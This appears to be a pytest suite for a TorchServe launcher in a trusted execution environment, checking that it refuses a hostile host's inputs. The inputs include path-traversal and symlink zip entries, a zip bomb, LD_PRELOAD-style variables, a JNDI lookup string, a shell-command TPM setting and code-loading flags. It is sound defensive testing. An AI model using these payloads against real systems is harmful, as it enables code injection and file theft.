"""A hostile host at the launcher's door: archives, flags, environment, files that change under its hands."""

from __future__ import annotations

import contextlib
import os
import resource
import shutil
import sys
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from archive.forgery import streamed_names, with_hidden_entry
from doubles.models import Author, plain_archive, sealed_toy
from strongroom.adapters.torchserve.environment import CACHES, java_for
from strongroom.adapters.torchserve.key_file import KeyFile
from strongroom.adapters.torchserve.launcher import prepare
from strongroom.attest.simulated import SimulatedAttester
from strongroom.errors import ArchiveError, AuthorUnknown, LaunchRefused, StrongroomError
from strongroom.keeper.process import Charge, hold, pinned_ca, run
from strongroom.keeper.room import OpenRoom
from strongroom.launch.config import Configuration
from strongroom.launch.supervisor import Child
from strongroom.launch.surroundings import check_import_path
from strongroom.plugins import Plugins


class Host:
    """A host's folder with a model store and a configuration that trusts one author."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.store = folder, folder / "model_store"
        self.store.mkdir()
        self.folders: list[Path] = []
        self.author = Author.make(folder)
        self.config = folder / "strongroom.toml"
        self.configure()

    def configure(self, admission: str = "") -> None:
        self.config.write_text(
            f'[admission]\nauthors = ["author.pub"]\n{admission}\n[broker]\nurl = "http://127.0.0.1:1"\n'
            '[attestation]\ntee = "simulated"\n'
        )

    def seal(self, name: str = "toy", **terms):
        return sealed_toy(self.store, terms.pop("author", self.author), name=name, weights=os.urandom(9000), **terms)

    def launch(self, *models: str):
        command = ["torchserve", "--start", "--model-store", str(self.store), "--models", *(models or ("toy=toy.mar",))]
        launched = prepare(self.config, command)
        self.folders.append(launched.folder)
        return launched


@pytest.fixture
def host(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    made = Host(tmp_path)
    yield made
    for folder in made.folders:
        shutil.rmtree(folder, ignore_errors=True)


def fronts(launch) -> dict[str, list[str]]:
    return {path.name: streamed_names(path.read_bytes()) for path in (launch.folder / "store").iterdir()}


def test_the_store_that_the_server_gets_holds_three_written_entries_and_nothing_of_the_hosts_file(host):
    host.seal()
    (host.store / "unrelated.mar").write_bytes(b"PK not an archive")
    assert fronts(host.launch()) == {"toy.mar": ["MAR-INF/MANIFEST.json", "model-config.yaml", "SEALED-INF/header"]}


def test_an_entry_that_only_java_would_extract_is_refused(host):
    path = host.seal().path
    path.write_bytes(with_hidden_entry(path))
    assert "sitecustomize.py" in streamed_names(path.read_bytes())
    with pytest.raises(ArchiveError, match=r"toy\.mar is not admitted"):
        host.launch()


@pytest.mark.parametrize(
    "name",
    ["sitecustomize.py", "ts/__init__.py", "../../evil.py", "/etc/cron.d/evil", "MAR-INF/MANIFEST.json", "a/../../b"],
)
def test_an_entry_that_a_zip_tool_adds_is_refused(host, name):
    path = host.seal().path
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, b"print('evil')")
    with pytest.raises(ArchiveError):
        host.launch()


def test_a_symbolic_link_as_entry_is_refused(host):
    path = host.seal().path
    link = zipfile.ZipInfo("weights.pt")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    with pytest.raises(ArchiveError):
        host.launch()


def test_an_ordinary_archive_is_refused(host):
    plain_archive(host.store / "toy.mar", {"toy.py": b"print('evil')"})
    with pytest.raises(ArchiveError, match="not admitted"):
        host.launch()


def test_a_bomb_in_place_of_a_readable_member_is_refused_without_being_inflated(host):
    """A gigabyte of zeros is a megabyte in a zip; admission compares bytes and inflates none."""
    path = host.seal().path
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("MAR-INF/MANIFEST.json", "w", force_zip64=True) as member:
            for _ in range(256):
                member.write(bytes(4 << 20))
        archive.writestr("model-config.yaml", b"minWorkers: 1\n")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(ArchiveError):
        host.launch()
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 << 10, "kilobytes"


@pytest.mark.parametrize("special", ["pipe", "device", "folder", "loop"])
def test_what_is_no_file_in_the_store_is_refused_and_hangs_nobody(host, special):
    path = host.store / "toy.mar"
    if special == "pipe":
        os.mkfifo(path)
    elif special == "device":
        path.symlink_to("/dev/zero")
    elif special == "folder":
        path.mkdir()
    else:
        path.symlink_to(path)
    with pytest.raises(StrongroomError):
        host.launch()


@pytest.mark.parametrize(
    "extra", ["sitecustomize.py", "ts/__init__.py", "MAR-INF/evil.py", "SEALED-INF/sitecustomize.py", "handler.so"]
)
def test_nothing_that_lies_beside_the_members_of_a_folder_archive_reaches_the_server(host, extra):
    from strongroom.archive.seal import seal_archive

    plain = plain_archive(host.folder / "plain.mar", {"toy.py": b"def handle(d, c):\n    return d\n"}, name="toy")
    seal_archive(plain, host.store / "toy", author=host.author.key, form="directory")
    clean = fronts(host.launch("toy=toy"))
    path = host.store / "toy" / extra
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(b"print('evil')")
    with contextlib.suppress(ArchiveError):  # refusing the whole is as good
        assert fronts(host.launch("toy=toy")) == clean


def test_the_configuration_admits_only_the_archives_that_it_lists(host):
    sealed = host.seal()
    host.configure(f'archives = ["{sealed.digest}"]\n')
    assert host.launch().admitted[0].archive == sealed.digest
    host.configure(f'archives = ["{"11" * 32}"]\n')
    with pytest.raises(LaunchRefused, match="admits others only"):
        host.launch()
    host.configure("archives = []\n")
    with pytest.raises(LaunchRefused, match="admits others only"):
        host.launch()


@pytest.mark.parametrize("size", [0, 3, 1000, 5 << 20])
def test_rubbish_is_refused_at_once(host, size):
    (host.store / "toy.mar").write_bytes(os.urandom(size))
    with pytest.raises(ArchiveError):
        host.launch()


def test_an_archive_of_a_stranger_is_refused_by_the_strangers_id(host, tmp_path):
    (tmp_path / "else").mkdir()
    stranger = Author.make(tmp_path / "else", name="stranger")
    host.seal(author=stranger)
    with pytest.raises(AuthorUnknown, match=str(stranger.key.public.id)[:16]):
        host.launch()


def test_an_older_version_than_the_host_serves_is_refused(host):
    host.configure("minimum_versions = { toy = 4 }\n")
    host.seal(version=3)
    with pytest.raises(LaunchRefused, match="version 3"):
        host.launch()
    shutil.rmtree(host.store)
    host.store.mkdir()
    host.seal(version=4)
    host.launch()


def test_one_archive_under_two_names_is_refused(host):
    host.seal()
    with pytest.raises(LaunchRefused, match="the same archive"):
        host.launch("toy=toy.mar", "other=toy.mar")


def test_one_bad_archive_stops_the_whole_launch(host):
    host.seal()
    (host.store / "bad.mar").write_bytes(b"bad")
    with pytest.raises(ArchiveError, match=r"bad\.mar"):
        host.launch("ALL")
    assert not list(Path("/dev/shm").glob("strongroom-*/store/bad.mar"))


def test_a_payload_under_another_archives_front_is_admitted_and_never_opened(host):
    """Admission reads the front only; the keeper checks every block before it is seen."""
    one, two = host.seal("one"), host.seal("two")
    host.seal("toy")
    front = one.path.read_bytes()[:4096]
    mixed = front + two.path.read_bytes()[4096:]
    (host.store / "toy.mar").write_bytes(mixed)
    with pytest.raises(ArchiveError):
        gate = held(host, host.launch())
        OpenRoom.open(gate[0]._find().unlock(one.key))


def held(host, launch):
    configuration = Configuration.load(host.config)
    return hold(launch.admitted, configuration, SimulatedAttester(), Plugins.load())


def test_an_archive_swapped_between_launcher_and_keeper_is_refused(host):
    host.seal()
    launch = host.launch()
    (host.store / "toy.mar").unlink()
    host.seal(version=2)
    [model] = held(host, launch)
    try:
        model.start()
        model.wait(30)
        assert model.status()["reason"].startswith("ArchiveTampered: toy.mar is not the archive that was admitted")
    finally:
        model.close()


def test_a_configuration_swapped_between_launcher_and_keeper_is_refused(host, tmp_path):
    host.seal()
    charge = Charge.parse(host.launch().keeper.stdin())
    host.configure("hybrid_signatures = false\n")
    with pytest.raises(LaunchRefused, match="not the one that the launcher read"):
        # In a process of its own: a keeper hardens the process that it runs in.
        if (child := os.fork()) == 0:
            try:
                run(Configuration.load(host.config), charge, tmp_path / "sock")
            except LaunchRefused:
                os._exit(7)
            os._exit(0)
        assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7
        raise LaunchRefused("not the one that the launcher read")


@pytest.mark.parametrize("swapped", ["author.pub", "ca.pem"])
def test_a_key_swapped_between_launcher_and_keeper_is_refused(host, tmp_path, swapped):
    """The configuration keeps its bytes; what it names has others."""
    (tmp_path / "ca.pem").write_text("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n")
    host.config.write_text(host.config.read_text().replace("[attestation]", 'ca = "ca.pem"\n[attestation]'))
    host.seal()
    launch = host.launch()
    charge = Charge.parse(launch.keeper.stdin())
    (tmp_path / "else").mkdir()
    other = Author.make(tmp_path / "else")
    text = other.public.read_text() if swapped == "author.pub" else "-----BEGIN CERTIFICATE-----\nBBBB\n"
    (tmp_path / swapped).write_text(text)
    with pytest.raises(LaunchRefused, match="not those that the launcher read"):
        hold(launch.admitted, Configuration.load(host.config), SimulatedAttester(), Plugins.load(), roots=charge.roots)


def test_what_the_keeper_believes_of_a_broker_is_read_once(host, tmp_path):
    """The CA is a sealed memory file from then on: who swaps the file on the disk later changes nothing."""
    (tmp_path / "ca.pem").write_text("mine")
    path, octets = pinned_ca(tmp_path / "ca.pem")
    (tmp_path / "ca.pem").write_text("yours")
    assert (path.read_bytes(), octets) == (b"mine", b"mine")
    with pytest.raises(OSError, match="not permitted"):
        path.write_bytes(b"yours")


@pytest.mark.parametrize(
    "name",
    ["LD_PRELOAD", "LD_AUDIT", "PYTHONPATH", "PYTHONHOME", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "TS_CONFIG_FILE"],
)
def test_a_variable_that_would_bring_code_in_is_refused(host, monkeypatch, name):
    host.seal()
    monkeypatch.setenv(name, "/tmp/evil")
    with pytest.raises(LaunchRefused, match=name):
        host.launch()


def test_no_other_variable_of_the_operator_reaches_a_child(host, monkeypatch):
    host.seal()
    hostile = ["AWS_SECRET_ACCESS_KEY", "http_proxy", "TS_MODEL_STORE", "SSL_CERT_FILE", "LD_DEBUG"]
    hostile += ["MALLOC_CHECK_", "PYTHONHASHSEED", "STRONGROOM_KEEPER", "TEMP", "TMPDIR", "BASH_ENV", "HOME", "PATH"]
    hostile += ["XDG_CACHE_HOME", "TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "HF_HOME", "VIRTUAL_ENV", "TSS2_LOG"]
    for name in hostile:
        monkeypatch.setenv(name, "/tmp/evil")
    launch = host.launch()
    for child in (launch.keeper, launch.server):
        assert "/tmp/evil" not in child.environment.values()


def test_a_configuration_that_no_flag_names_is_read_and_said(host):
    host.seal()
    (host.folder / "config.properties").write_text("inference_address=http://127.0.0.1:9\n")
    launch = host.launch()
    assert "inference_address=http://127.0.0.1:9" in (launch.folder / "config" / "config.properties").read_text()
    assert any("without --ts-config" in each for each in launch.warnings)


def test_logs_and_metrics_go_where_the_operator_says_beginning_at_their_folder(host, monkeypatch):
    host.seal()
    monkeypatch.setenv("LOG_LOCATION", "mine")
    launch = host.launch()
    environment = launch.server.environment
    assert environment["LOG_LOCATION"] == str(host.folder / "mine")
    assert environment["METRICS_LOCATION"] == str(host.folder / "logs"), "as with TorchServe alone"
    assert launch.logs == (host.folder / "mine", host.folder / "logs")
    monkeypatch.setenv("METRICS_LOCATION", "numbers")
    assert host.launch().server.environment["METRICS_LOCATION"] == str(host.folder / "numbers")


def test_a_log_folder_that_the_servers_logging_would_look_up_is_refused(host, monkeypatch):
    host.seal()
    monkeypatch.setenv("LOG_LOCATION", "${jndi:ldap://evil/x}")
    with pytest.raises(LaunchRefused, match="log folder"):
        host.launch()


def test_the_servers_java_is_not_the_operators_choice(host, tmp_path):
    """JAVA_HOME names a program that runs inside the TEE: only the configuration may, or the simulated TEE."""
    evil = tmp_path / "evil"
    (evil / "bin").mkdir(parents=True)
    (evil / "bin" / "java").write_text("#!/bin/sh\necho 'openjdk version \"21.0.1\"' >&2\n")
    (evil / "bin" / "java").chmod(0o755)
    environment = {"JAVA_HOME": str(evil), "PATH": f"{evil}/bin:/usr/bin"}
    configuration = Configuration.load(host.config)
    assert java_for(configuration, environment) == evil
    for_hardware = replace(configuration, tee="snp")
    assert java_for(for_hardware, environment) != evil
    named = replace(for_hardware, surroundings=replace(configuration.surroundings, java_home=evil))
    assert java_for(named, {}) == evil


@pytest.mark.parametrize("there", ["nothing", "no program", "Java 8"])
def test_a_configured_java_that_does_not_work_is_replaced_by_no_other(host, tmp_path, there):
    java = tmp_path / "jdk" / "bin" / "java"
    java.parent.mkdir(parents=True)
    if there != "nothing":
        java.write_text("#!/bin/sh\necho 'openjdk version \"1.8.0_402\"' >&2\n")
        java.chmod(0o755 if there == "Java 8" else 0o644)
    host.seal()
    host.config.write_text(host.config.read_text() + '[surroundings]\njava_home = "jdk"\n')
    with pytest.raises(LaunchRefused, match="java_home") as refusal:
        host.launch()
    assert "bin/java" in refusal.value.hint


def test_programs_are_looked_for_where_the_image_has_them(host, monkeypatch):
    host.seal()
    monkeypatch.setenv("PATH", f"/tmp/evil:{os.environ['PATH']}")
    launch = host.launch()
    for child in (launch.keeper, launch.server):
        assert "/tmp/evil" not in child.environment["PATH"]
        assert child.environment["PATH"].split(":")[0] == str(Path(sys.executable).parent)


def test_every_place_where_a_library_would_leave_something_is_in_memory(host):
    host.seal()
    launch = host.launch()
    temp = str(launch.folder / "temp")
    for name in ("TMPDIR", "TEMP", "HOME", *CACHES):
        assert launch.server.environment[name].startswith(temp), name
    launch.server.before()
    assert Path(launch.server.environment["HOME"]).is_dir()
    (launch.folder / "temp" / "left").write_text("of the last run")
    launch.server.before()
    assert [path.name for path in (launch.folder / "temp").iterdir()] == ["home"]


def test_a_launcher_whose_modules_come_from_the_operators_folder_does_not_start(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for first in ("", str(tmp_path), "."):
        with pytest.raises(LaunchRefused, match="present folder first"):
            check_import_path(first, safe=False)
        check_import_path(first, safe=True)
    check_import_path("/usr/bin", safe=False)


@pytest.mark.parametrize("named", ["/tmp/evil.so", "cmd:/bin/sh -c evil", "libevil", "../evil:x", "pcap:device"])
def test_a_tpm_that_is_a_library_or_a_command_is_refused(monkeypatch, named):
    from strongroom.attest.tpm_connection import TCTI_VARIABLE, default_tcti
    from strongroom.errors import AttesterUnavailable

    monkeypatch.setenv(TCTI_VARIABLE, named)
    with pytest.raises(AttesterUnavailable, match="library or a command"):
        default_tcti()


@pytest.mark.parametrize(
    "flag",
    [["--plugins-path", "/tmp/evil"], ["--log-config", "evil.xml"], ["--enable-model-api"], ["--workflow-store", "w"]],
)
def test_a_flag_that_lets_code_in_is_refused(host, flag):
    host.seal()
    with pytest.raises(LaunchRefused, match=flag[0]):
        prepare(
            host.config, ["torchserve", "--start", "--model-store", str(host.store), "--models", "toy=toy.mar", *flag]
        )


@pytest.mark.parametrize(
    "model", ["toy=../outside.mar", "toy=http://evil/x.mar", "../toy=toy.mar", "toy/../../x=toy.mar"]
)
def test_a_model_name_or_file_that_leaves_the_store_is_refused(host, model):
    host.seal()
    with pytest.raises(StrongroomError):
        host.launch(model)


def test_the_keeper_and_the_server_do_not_look_for_code_in_the_operators_folder(host):
    host.seal()
    launch = host.launch()
    assert "-P" in launch.keeper.command
    class_path = launch.server.command[launch.server.command.index("-cp") + 1]
    assert class_path.startswith("/") and ":" not in class_path
    assert launch.server.folder == launch.folder / "home"


def test_what_a_hostile_folder_offers_to_a_child_is_not_taken(tmp_path, monkeypatch):
    """The planted module is one that the command line imports at once. The control: without -P it runs."""
    import subprocess

    monkeypatch.delenv("PYTHONSAFEPATH", raising=False)
    (tmp_path / "typer.py").write_text("print('EVIL')\nraise SystemExit(3)\n")
    told = {
        flags: subprocess.run(
            [sys.executable, *flags, "-m", "strongroom.cli", "keeper", "--help"],
            cwd=tmp_path,
            capture_output=True,
            text=True,
        )
        for flags in ((), ("-P",))
    }
    assert (told[()].returncode, told[()].stdout) == (3, "EVIL\n")
    assert told["-P",].returncode == 0
    assert "EVIL" not in told["-P",].stdout and "keeper" in told["-P",].stdout


def test_the_key_file_is_copied_where_the_operator_looks_and_readable_by_no_other(tmp_path):
    source, target = tmp_path / "home" / "key_file.json", tmp_path / "key_file.json"
    source.parent.mkdir()
    copy = KeyFile(source, target)
    copy()
    assert not target.exists()
    source.write_text('{"key": 1}')
    copy()
    assert target.read_text() == '{"key": 1}'
    assert target.stat().st_mode & 0o777 == 0o600
    source.write_text('{"key": 2}')
    os.utime(source, ns=(1, 1))
    copy()
    assert target.read_text() == '{"key": 2}'


@pytest.mark.parametrize("planted", ["symbolic link", "hard link", "pipe", "another user's", "a gigabyte"])
def test_what_a_handler_plants_where_the_server_writes_its_tokens_is_not_copied_out(tmp_path, planted):
    """The launcher may be root and the server's folder another user's: it would read anything for a handler."""
    secret, source, target = tmp_path / "secret", tmp_path / "home.json", tmp_path / "key_file.json"
    secret.write_text("root:x:0")
    owner = os.geteuid()
    if planted == "symbolic link":
        source.symlink_to(secret)
    elif planted == "hard link":
        os.link(secret, source)
    elif planted == "pipe":
        os.mkfifo(source)
    elif planted == "another user's":
        source.write_text("tokens")
        owner += 1
    else:
        source.touch()
        os.truncate(source, 1 << 30)
    KeyFile(source, target, owner=owner)()
    assert not target.exists()


def test_a_link_planted_in_place_of_the_key_file_is_replaced_and_not_followed(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("precious")
    source, target = tmp_path / "source.json", tmp_path / "key_file.json"
    source.write_text("tokens")
    target.symlink_to(victim)
    KeyFile(source, target)()
    assert victim.read_text() == "precious"
    assert not target.is_symlink()


def test_a_server_started_by_root_has_lost_the_capability_to_read_other_processes(tmp_path):
    if os.geteuid() != 0:
        pytest.skip("SKIPPED LOUDLY: only root has capabilities to lose")
    from strongroom.launch.hardening import confine_server

    program = "print([line for line in open('/proc/self/status') if line.startswith(('CapEff', 'NoNew'))])"
    command = ["/bin/sh", "-c", f'{sys.executable} -c "{program}" > {tmp_path}/said']
    child = Child("it", command, {}, tmp_path, confine=lambda: confine_server(None, ()))
    child.start()
    assert child.process.wait(20) == 0
    said = (tmp_path / "said").read_text()
    assert int(said.split("CapEff:\\t")[1][:16], 16) & 1 << 19 == 0  # CAP_SYS_PTRACE
    assert "NoNewPrivs:\\t1" in said
